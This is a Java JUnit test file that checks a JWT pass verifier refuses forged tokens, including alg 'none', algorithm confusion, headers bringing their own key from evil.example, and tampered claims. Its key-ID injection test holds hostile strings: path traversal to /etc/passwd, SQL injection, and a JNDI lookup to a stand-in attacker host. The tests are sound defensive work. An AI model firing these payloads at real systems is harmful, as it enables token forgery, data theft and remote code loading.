package dev.turnkeeper.pass;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import dev.turnkeeper.room.BindTo;
import dev.turnkeeper.room.Room;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody without a pass, or with somebody else's, would try. Each is refused for its reason, and counted. */
class PassAttackTest {

    private static final Room SHOP = Ring.room("shop");
    private static final Room OTHER = Ring.room("other");
    private static final VisitorTraits BOB = new VisitorTraits("Other/2", "198.51.100.7", Optional.empty());

    private final Ring ring = new Ring();
    private KeyRing keys;
    private Passes passes;
    private String token;
    private ECKey signing;

    @BeforeEach
    void pass() throws Exception {
        keys = ring.node();
        passes = ring.passes(keys);
        long binding = new Bindings(keys).of(Set.of(BindTo.USER_AGENT), Ring.ANN);
        token = passes.issue(SHOP, "http://x", 1, 5, binding, Ring.ANN, ring.clock.instant())
                .token();
        signing = keys.now().ring().signing().get(0).key().toECKey();
        ring.events.counted.clear();
    }

    @Test
    void genuine_isTaken_alsoTheSecondTime() {
        assertTrue(passes.check(token, SHOP, Ring.ANN) instanceof PassCheck.Accepted);
        assertTrue(passes.check(token, SHOP, Ring.ANN) instanceof PassCheck.Accepted);
        assertEquals(List.of(), ring.events.counted);
    }

    @Test
    void remembered_isJudgedAnewEachTime() {
        passes.check(token, SHOP, Ring.ANN);
        refused(PassFault.WRONG_VISITOR, token, SHOP, BOB);
        refused(PassFault.WRONG_ROOM, token, OTHER, Ring.ANN);
        ring.clock.advance(Duration.ofSeconds(600));
        refused(PassFault.EXPIRED, token, SHOP, Ring.ANN);
    }

    @Test
    void soldPass_onAnotherDevice() {
        refused(PassFault.WRONG_VISITOR, token, SHOP, BOB);
    }

    @Test
    void passOfAnotherRoom() {
        refused(PassFault.WRONG_ROOM, token, OTHER, Ring.ANN);
    }

    @Test
    void passOfAnotherGrid() throws Exception {
        Ring elsewhere = new Ring();
        String foreign = elsewhere
                .passes(elsewhere.node())
                .issue(SHOP, "http://x", 1, 5, 0, Ring.ANN, ring.clock.instant())
                .token();
        refused(PassFault.UNKNOWN_KEY, foreign, SHOP, Ring.ANN);
    }

    @Test
    void replayed_afterItsEnd_andFromAClockAhead() throws Exception {
        ring.clock.advance(Duration.ofSeconds(600));
        refused(PassFault.EXPIRED, token, SHOP, Ring.ANN);
        Date later = Date.from(ring.clock.instant().plusSeconds(60));
        String early = signed(
                header(JWSAlgorithm.ES256),
                new JWTClaimsSet.Builder(claims())
                        .notBeforeTime(later)
                        .expirationTime(later)
                        .build(),
                new ECDSASigner(signing));
        refused(PassFault.NOT_YET, early, SHOP, Ring.ANN);
    }

    @Test
    void otherIssuer_underOurOwnKey() throws Exception {
        String other = signed(
                header(JWSAlgorithm.ES256),
                new JWTClaimsSet.Builder(claims())
                        .issuer("https://evil.example")
                        .build(),
                new ECDSASigner(signing));
        refused(PassFault.WRONG_ISSUER, other, SHOP, Ring.ANN);
    }

    @Test
    void changedCharacters_areRefused() {
        int last = token.length() - 1;
        for (int i = 0; i < last; i += 11) {
            if (token.charAt(i) != '.') {
                changed(i, token.charAt(i) == 'A' ? 'B' : 'A');
            }
        }
        // Of the last character, four bits mean nothing.
        "AQgwBCDE_-".chars().filter(c -> c != token.charAt(last)).forEach(c -> changed(last, (char) c));
    }

    private void changed(int at, char to) {
        String changed = token.substring(0, at) + to + token.substring(at + 1);
        assertTrue(passes.check(changed, SHOP, Ring.ANN) instanceof PassCheck.Refused, at + " to " + to);
    }

    @Test
    void claimsEdited_underTheOldSignature() throws Exception {
        String[] parts = token.split("\\.");
        String body = base64(claims().toString().replace("\"position\":5", "\"position\":4"));
        refused(PassFault.BAD_SIGNATURE, parts[0] + "." + body + "." + parts[2], SHOP, Ring.ANN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE"})
    void noSignature(String none) throws Exception {
        String header = base64("{\"alg\":\"" + none + "\",\"typ\":\"tkp+jwt\",\"kid\":\"" + signing.getKeyID() + "\"}");
        String[] parts = token.split("\\.");
        refused(PassFault.ALGORITHM, header + "." + parts[1] + ".", SHOP, Ring.ANN);
        refused(PassFault.ALGORITHM, header + "." + parts[1] + "." + parts[2], SHOP, Ring.ANN);
    }

    @Test
    void strippedSignature() {
        String[] parts = token.split("\\.");
        refused(PassFault.BAD_SIGNATURE, parts[0] + "." + parts[1] + ".", SHOP, Ring.ANN);
        refused(PassFault.MALFORMED, parts[0] + "." + parts[1], SHOP, Ring.ANN);
    }

    @Test
    void zeroSignature() {
        String[] parts = token.split("\\.");
        String zeros = Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64]);
        refused(PassFault.BAD_SIGNATURE, parts[0] + "." + parts[1] + "." + zeros, SHOP, Ring.ANN);
    }

    @Test
    void algorithmConfusion_thePublicKeyAsAnHmacSecret() throws Exception {
        for (byte[] secret : List.of(
                signing.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8),
                signing.toECPublicKey().getEncoded(),
                ("-----BEGIN PUBLIC KEY-----\n"
                                + Base64.getMimeEncoder()
                                        .encodeToString(signing.toECPublicKey().getEncoded())
                                + "\n-----END PUBLIC KEY-----\n")
                        .getBytes(StandardCharsets.UTF_8))) {
            refused(
                    PassFault.ALGORITHM,
                    signed(header(JWSAlgorithm.HS256), claims(), new MACSigner(secret)),
                    SHOP,
                    Ring.ANN);
        }
    }

    @Test
    void otherAlgorithmOfOurs_underTheIdOfThisKey() throws Exception {
        RSASSASigner rsa = new RSASSASigner(new RSAKeyGenerator(2048).generate());
        refused(PassFault.ALGORITHM, signed(header(JWSAlgorithm.RS256), claims(), rsa), SHOP, Ring.ANN);
    }

    @Test
    void ownKey_broughtAlongInTheHeader() throws Exception {
        ECKey own = new ECKeyGenerator(Curve.P_256).keyID(signing.getKeyID()).generate();
        JWSHeader.Builder header = new JWSHeader.Builder(JWSAlgorithm.ES256)
                .type(Passes.TYPE)
                .jwk(own.toPublicJWK())
                .jwkURL(URI.create("https://evil.example/jwks"))
                .x509CertURL(URI.create("https://evil.example/x5u"));
        refused(
                PassFault.BAD_SIGNATURE,
                signed(header.keyID(signing.getKeyID()).build(), claims(), new ECDSASigner(own)),
                SHOP,
                Ring.ANN);
        refused(
                PassFault.UNKNOWN_KEY,
                signed(header.keyID("mine").build(), claims(), new ECDSASigner(own)),
                SHOP,
                Ring.ANN);
        refused(
                PassFault.UNKNOWN_KEY,
                signed(header.keyID(null).build(), claims(), new ECDSASigner(own)),
                SHOP,
                Ring.ANN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "../../etc/passwd",
                "/dev/null",
                "https://evil.example/key",
                "file:///etc/passwd",
                "' OR '1'='1",
                "1; DROP TABLE keys",
                "../keys",
                "\u0000",
                "1",
                "${jndi:ldap://evil.example/a}"
            })
    void keyIdInjection(String keyId) throws Exception {
        ECKey own = new ECKeyGenerator(Curve.P_256).generate();
        JWSHeader header = new JWSHeader.Builder(JWSAlgorithm.ES256)
                .type(Passes.TYPE)
                .keyID(keyId)
                .build();
        refused(PassFault.UNKNOWN_KEY, signed(header, claims(), new ECDSASigner(own)), SHOP, Ring.ANN);
    }

    @Test
    void keyIdOfAnotherType_isMalformed() {
        String[] parts = token.split("\\.");
        for (String kid : List.of("[\"a\"]", "{\"a\":1}", "7")) {
            String header = base64("{\"alg\":\"ES256\",\"typ\":\"tkp+jwt\",\"kid\":" + kid + "}");
            refused(PassFault.MALFORMED, header + "." + parts[1] + "." + parts[2], SHOP, Ring.ANN);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"JWT", "at+jwt", "tkh+jwt", "jose"})
    void otherTokenTypes_evenUnderOurOwnKey(String type) throws Exception {
        JWSHeader header = new JWSHeader.Builder(JWSAlgorithm.ES256)
                .type(new JOSEObjectType(type))
                .keyID(signing.getKeyID())
                .build();
        refused(PassFault.MALFORMED, signed(header, claims(), new ECDSASigner(signing)), SHOP, Ring.ANN);
    }

    @Test
    void criticalHeaders_andUnencodedPayload() throws Exception {
        String[] parts = token.split("\\.");
        for (String more :
                List.of("\"crit\":[\"exp\"],\"exp\":1", "\"crit\":[\"b64\"],\"b64\":false", "\"b64\":false")) {
            String header = base64(
                    "{\"alg\":\"ES256\",\"typ\":\"tkp+jwt\",\"kid\":\"" + signing.getKeyID() + "\"," + more + "}");
            refused(PassFault.MALFORMED, header + "." + parts[1] + "." + parts[2], SHOP, Ring.ANN);
        }
    }

    @Test
    void missingClaims_evenUnderOurOwnKey() throws Exception {
        for (String claim : List.of(
                "iss", "aud", "sub", "jti", "iat", "nbf", "exp", "position", "generation", "binding", "since")) {
            Map<String, Object> fewer = new TreeMap<>(claims().toJSONObject());
            fewer.remove(claim);
            refused(
                    PassFault.MALFORMED,
                    signed(header(JWSAlgorithm.ES256), JWTClaimsSet.parse(fewer), new ECDSASigner(signing)),
                    SHOP,
                    Ring.ANN);
        }
        JWTClaimsSet everywhere = new JWTClaimsSet.Builder(claims())
                .audience(List.of("shop", "other"))
                .build();
        refused(
                PassFault.MALFORMED,
                signed(header(JWSAlgorithm.ES256), everywhere, new ECDSASigner(signing)),
                SHOP,
                Ring.ANN);
    }

    @Test
    void oversize_isNotEvenParsed() {
        refused(PassFault.MALFORMED, token + "A".repeat(4_096), SHOP, Ring.ANN);
        refused(PassFault.MALFORMED, "A".repeat(10_000_000), SHOP, Ring.ANN);
        refused(PassFault.MALFORMED, base64("[".repeat(2_900)) + ".e30.e30", SHOP, Ring.ANN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", ".", "..", "...", "a.b.c", "e30.e30.e30", "null", "bnVsbA.bnVsbA.bnVsbA", " . . ", "....."})
    void rubbish(String text) {
        assertTrue(passes.check(text, SHOP, Ring.ANN) instanceof PassCheck.Refused);
    }

    @Test
    void fiveParts_asOfAnEncryptedToken() {
        refused(PassFault.MALFORMED, token + ".a.b", SHOP, Ring.ANN);
    }

    private void refused(PassFault fault, String text, Room room, VisitorTraits traits) {
        ring.events.counted.clear();
        assertEquals(fault, ((PassCheck.Refused) passes.check(text, room, traits)).fault());
        assertEquals(List.of(fault), ring.events.counted);
    }

    private JWTClaimsSet claims() throws Exception {
        return SignedJWT.parse(token).getJWTClaimsSet();
    }

    private JWSHeader header(JWSAlgorithm algorithm) {
        return new JWSHeader.Builder(algorithm)
                .type(Passes.TYPE)
                .keyID(signing.getKeyID())
                .build();
    }

    private static String signed(JWSHeader header, JWTClaimsSet claims, JWSSigner signer) throws Exception {
        SignedJWT jwt = new SignedJWT(header, claims);
        jwt.sign(signer);
        return jwt.serialize();
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
